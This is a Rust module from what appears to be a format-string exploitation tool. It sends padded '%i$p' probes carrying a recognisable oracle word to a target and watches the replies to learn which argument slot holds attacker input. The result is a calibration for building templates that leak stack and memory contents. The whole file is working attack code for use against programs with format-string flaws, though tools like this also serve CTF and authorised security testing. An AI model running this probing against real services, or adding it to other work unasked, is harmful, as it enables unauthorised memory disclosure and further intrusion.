//! Oracle search for the attacker-controlled parameter index.
//!
//! An oracle word (`'B'` repeated to the pointer width) is appended after
//! a `%i$p` probe for every `i` below `max_num_params`. The probe whose
//! reply echoes the oracle's `%p` rendering reveals the argument slot the
//! appended bytes occupy. All probes share one padded length, sized for
//! the largest index, so the slot does not move while `i` changes.
//!
//! If the target happens to print the oracle value for a smaller index the
//! search stops there. That false positive is not guarded against.

use crate::channel::{round_trip, Channel};
use crate::config::Config;
use crate::error::{Error, Result};
use crate::fmtstr::{self, FormatStringInfo, Specifier};
use crate::pointer::PointerMaker;

/// Byte repeated to build the oracle word.
pub const ORACLE_FILLER: u8 = b'B';

/// A recognizable argument value and its expected `%p` rendering.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Oracle {
    bytes: Vec<u8>,
    expected: Vec<u8>,
}

impl Oracle {
    pub fn new(maker: &PointerMaker) -> Result<Self> {
        let bytes = vec![ORACLE_FILLER; maker.width()];
        let expected = format!("{}", maker.from_bytes(&bytes)?).into_bytes();
        Ok(Self { bytes, expected })
    }

    /// Raw bytes appended to each probe.
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// What `%p` prints for the oracle, e.g. `0x4242424242424242`.
    pub fn expected(&self) -> &[u8] {
        &self.expected
    }
}

/// Outcome of a successful calibration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Calibration {
    template: Vec<u8>,
    param: usize,
    aligned_len: usize,
}

impl Calibration {
    pub(crate) fn new(template: Vec<u8>, param: usize, aligned_len: usize) -> Self {
        Self {
            template,
            param,
            aligned_len,
        }
    }

    /// Padded template fixed at the discovered index.
    pub fn template(&self) -> &[u8] {
        &self.template
    }

    /// Argument index of the first word appended after the template.
    pub fn param(&self) -> usize {
        self.param
    }

    /// Length of every template built against this calibration.
    pub fn aligned_len(&self) -> usize {
        self.aligned_len
    }

    /// Index of the word appended after a template of `aligned_len` bytes
    /// instead of this calibration's length.
    pub fn param_for_len(&self, aligned_len: usize, pointer_size: usize) -> Result<usize> {
        if aligned_len < self.aligned_len || aligned_len % pointer_size != 0 {
            return Err(Error::Bounds(format!(
                "cannot move from aligned length {} to {}",
                self.aligned_len, aligned_len
            )));
        }
        Ok(self.param + (aligned_len - self.aligned_len) / pointer_size)
    }
}

/// Padded length shared by all read templates under `config`.
pub fn read_aligned_len(config: &Config, info: &FormatStringInfo) -> usize {
    let worst = fmtstr::read_template(config.max_num_params, Specifier::Pointer, info);
    fmtstr::stack_aligned_len(worst.len(), config.pointer_size)
}

/// Send one read template for `param` with `trailer` appended and return
/// the leaked bytes.
pub(crate) fn probe<C: Channel + ?Sized>(
    chan: &mut C,
    config: &Config,
    info: &FormatStringInfo,
    param: usize,
    specifier: Specifier,
    aligned_len: usize,
    trailer: &[u8],
) -> Result<Vec<u8>> {
    let mut payload = fmtstr::padded_read_template(param, specifier, info, aligned_len)?;
    payload.extend_from_slice(trailer);
    let reply = round_trip(chan, config, &payload, &info.terminator, || {
        format!("probe of parameter {}", param)
    })?;
    fmtstr::extract_leak(&reply, &payload, info)
}

/// Find the parameter index of attacker-controlled input.
///
/// Returns a calibration whose template uses `specifier` at the found
/// index. Fails with [`Error::OracleNotFound`] after `max_num_params`
/// probes.
pub fn calibrate<C: Channel + ?Sized>(
    chan: &mut C,
    config: &Config,
    info: &FormatStringInfo,
    specifier: Specifier,
) -> Result<Calibration> {
    config.validate()?;
    info.validate()?;
    let oracle = Oracle::new(&config.pointer_maker()?)?;
    let aligned_len = read_aligned_len(config, info);

    for param in 0..config.max_num_params {
        let leaked = probe(
            chan,
            config,
            info,
            param,
            Specifier::Pointer,
            aligned_len,
            oracle.bytes(),
        )?;
        log::debug!("parameter {}: {}", param, leaked.escape_ascii());
        if leaked == oracle.expected() {
            log::info!(
                "input found at parameter {} (aligned length {})",
                param,
                aligned_len
            );
            return Ok(Calibration {
                template: fmtstr::padded_read_template(param, specifier, info, aligned_len)?,
                param,
                aligned_len,
            });
        }
    }

    log::warn!(
        "oracle not echoed within {} parameters",
        config.max_num_params
    );
    Err(Error::OracleNotFound {
        expected: String::from_utf8_lossy(oracle.expected()).into_owned(),
        probes: config.max_num_params,
    })
}
